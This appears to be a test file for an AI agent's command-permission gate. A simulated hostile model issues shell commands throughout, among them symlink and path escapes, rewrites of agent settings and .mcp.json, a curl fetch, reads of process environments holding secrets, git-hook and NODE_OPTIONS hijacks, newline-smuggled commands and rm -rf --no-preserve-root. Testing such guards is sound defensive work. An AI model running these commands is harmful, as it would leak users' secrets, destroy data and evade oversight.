import { existsSync, readdirSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import {
  type Fate,
  files,
  links,
  runHostile,
  SECRET,
} from '../../../../test/support/hostile-run.ts'
import type { ReplyCall } from '../../../../test/support/model-server.ts'

const run = (command: string): ReplyCall => ({ name: 'run_command', args: { command } })

/** By what a project’s links make of them, in the standard profile. */
const BY_LINKS: readonly (readonly [string, Fate])[] = [
  ['cat rules-link/settings.json', 'ran'],
  ['cat src/b.txt', 'ran'],
  ['ls -la', 'ran'],
  ['cat out.txt', 'asked'],
  ['cat out/secret.txt', 'asked'],
  ['cat src/../out/secret.txt', 'asked'],
  ['cat src/far/project/../secret.txt', 'asked'],
  ['cd out && cat secret.txt', 'asked'],
  ['cd src/far; cat secret.txt', 'asked'],
  ['cat o*/secret.txt', 'asked'],
  ['cat ou?.txt', 'asked'],
  ['cat {a,out}.txt', 'asked'],
  ['cat *.txt', 'asked'],
  ['grep -r beside out/', 'asked'],
  ['cat < out.txt', 'asked'],
  ['echo x > out/made.txt', 'asked'],
  ['echo x > new.txt', 'asked'],
  ['echo x >> out.txt', 'asked'],
  ['echo x > src/far/made.txt', 'asked'],
  ['echo x | tee out/made.txt', 'asked'],
  ['touch out/made.txt', 'asked'],
  ['mkdir -p out/made', 'asked'],
  ['echo x > rules-link/settings.json', 'asked'],
  ['cd rules-link && echo x > settings.json', 'asked'],
]

test('a command that a link leads out of the project is asked for', async () => {
  const calls = BY_LINKS.map(([command]) => run(command))
  await using hostile = await runHostile({ calls, files, links })
  const fates = BY_LINKS.map(([command], index) => [command, hostile.fates[index]])
  expect(fates).toEqual(BY_LINKS.map(([...row]) => row))
  expect(hostile.told).not.toContain(SECRET)
  const beside = readdirSync(join(hostile.fixture.root, '..'))
  expect(beside.toSorted()).toEqual(['data', 'project', 'secret.txt'])
})

/** Changes to what agents may do, and reads of what Orrery keeps: asked for even in *trusted*. */
const GUARDED: readonly string[] = [
  'echo x > .orrery/settings.json',
  'echo x > .ORRERY/settings.json',
  'echo x > .o*/settings.json',
  'echo x > .claude/agents/evil.md',
  'mkdir -p .claude/agents',
  "echo '{}' > .mcp.json",
  'cd .orrery && echo x > settings.json',
  'tee .mcp.json < a.txt',
  'cp a.txt .mcp.json',
  'cp evil/.mcp.json .',
  'cp -r evil/. .',
  'cp -t . evil/.mcp.json',
  'mv evil/.claude .',
  'mv .orrery away',
  'ln -sf ../evil .claude',
  'ln -s "$PWD/evil/.mcp.json" ./',
  'ln .orrery/settings.json twin.json',
  'rsync -a evil/ ./',
  "sed -i 's/a/b/' .orrery/settings.json",
  'git checkout HEAD~1 -- .orrery',
  'git restore .mcp.json',
  'git rm -r .orrery',
  'git apply --directory=.orrery x.patch',
  'patch .orrery/settings.json x.patch',
  'tar -xf x.tar -C .claude',
  'unzip x.zip -d .orrery',
  'curl -o .mcp.json https://example.invalid/x',
  'dd if=a.txt of=.mcp.json',
  'tsc --outDir .claude',
  'rm -rf .orrery',
  'echo x > rules-link/settings.json',
  'ln -s .orrery fresh && echo x > fresh/settings.json',
]

test('what says what agents may do is changed by no command unasked, in no profile', async () => {
  await using hostile = await runHostile({
    calls: GUARDED.map(run),
    files,
    links,
    profile: 'trusted',
  })
  const fates = GUARDED.map((command, index) => [command, hostile.fates[index]])
  expect(fates).toEqual(GUARDED.map((command) => [command, 'asked']))
})

test('what Orrery itself keeps is read and written by no command unasked', async () => {
  const commands = (data: string) => [
    `cat ${data}/secrets.json`,
    `cat ${data}/*`,
    `cp ${data}/orrery.db a.db`,
    `strings ${data}/orrery.db`,
    `echo x > ${data}/owner.json`,
    `rm ${data}/orrery.db`,
    `cat out/data/orrery.db`,
    `cat ../dat?/orrery.db`,
  ]
  const calls = commands('../data').map(run)
  await using hostile = await runHostile({ calls, files, links, profile: 'trusted' })
  expect(hostile.fates).toEqual(calls.map(() => 'asked'))
  await using standard = await runHostile({ calls, files, links })
  expect(standard.fates.filter((fate) => fate === 'ran')).toEqual([])
})

// google-antigravity/antigravity-cli #781: `env` showed keys to the model.
/** Ways to what other programs of the person’s were started with. */
const ENVIRONMENTS = [
  'cat /proc/1/environ',
  'cat /proc/self/environ',
  'cat /proc/1/task/1/environ',
  'cat /proc/*/environ',
  'cat /proc/$PPID/environ',
  'tr "\\0" "\\n" < /proc/1/environ',
  'strings /proc/1/environ',
  'ps e',
  'ps auxe',
  'ps -A e',
  'ps auxeww | base64',
  'printenv',
  'env',
]

test('no command shows unasked what other programs were started with', async () => {
  await using hostile = await runHostile({ calls: ENVIRONMENTS.map(run), files })
  const ran = ENVIRONMENTS.filter((_, index) => hostile.fates[index] === 'ran')
  expect(ran).toEqual([])
})

/** By which the safe word behind them would come to run, or read, something else. */
const STEERED = [
  'HOME=. git status',
  'XDG_CONFIG_HOME=. git status',
  'GIT_DIR=evil git status',
  'git --git-dir=evil status',
  'git --work-tree=/ status',
  'git -c core.fsmonitor=./x status',
  'git config core.hooksPath evil',
  'git config include.path ../evil',
  'npm_config_script_shell=./x npm test',
  'NODE_OPTIONS=--require=./x npm test',
  'export NODE_OPTIONS=--require=./x\nnpm test',
  'MAKEFILES=x make',
  'JDK_JAVA_OPTIONS=-javaagent:x mvn test',
  'npm config set script-shell ./x',
  'npm pkg set scripts.test=x',
  'npm test --script-shell=./x',
  'npm test\nrm a.txt',
  'npm test & rm a.txt',
  'npm test\r\nrm a.txt',
  'echo x > src/.git/config',
  'echo x > .git/config',
  'echo x > .g?t/config',
  'echo x > .git/hooks/pre-commit',
  'cp a.txt .git/hooks/pre-commit',
  'ln -s x .git/hooks/pre-commit',
  'find . -name a.txt -exec cp {} .git/config \\;',
  'bash a.txt',
  '. ./a.txt',
  'make -C /tmp test',
  'npm --prefix /tmp test',
]

test('no word that is safe alone runs unasked what is put under it', async () => {
  await using hostile = await runHostile({ calls: STEERED.map(run), files })
  const ran = STEERED.filter((_, index) => hostile.fates[index] === 'ran')
  expect(ran).toEqual([])
})

/** Should the gate let one through that it must not, there is no program to do it. */
const harmless = { env: { PATH: '/nonexistent' } }

test('a command that a link leads elsewhere while a person is asked is judged anew', async () => {
  await using hostile = await runHostile({ calls: [run('cp a.txt made/')], files, ...harmless })
  const { fixture } = hostile
  symlinkSync('/usr', join(fixture.root, 'made'))
  const [asked] = fixture.of('approval.requested')
  if (!asked) throw new Error('Nobody was asked.')
  const { approvalId } = asked.data
  await fixture.runs.decide(fixture.sessionId, { approvalId, decision: 'approve' })
  await fixture.runs.idle(fixture.sessionId)
  expect(fixture.of('tool.ended').map(({ data }) => data.outcome)).toEqual(['denied'])
  expect(existsSync('/usr/a.txt')).toBe(false)
})

test('what a person edits into something blocked does not run', async () => {
  await using hostile = await runHostile({
    calls: [run('make x')],
    files,
    links: { far: '/' },
    ...harmless,
  })
  const { fixture } = hostile
  const [asked] = fixture.of('approval.requested')
  if (!asked) throw new Error('Nobody was asked.')
  const args = { command: 'rm -rf --no-preserve-root far/*' }
  const decision = { approvalId: asked.data.approvalId, decision: 'edit', args } as const
  await fixture.runs.decide(fixture.sessionId, decision)
  await fixture.runs.idle(fixture.sessionId)
  expect(fixture.of('tool.ended').map(({ data }) => data.outcome)).toEqual(['denied'])
})
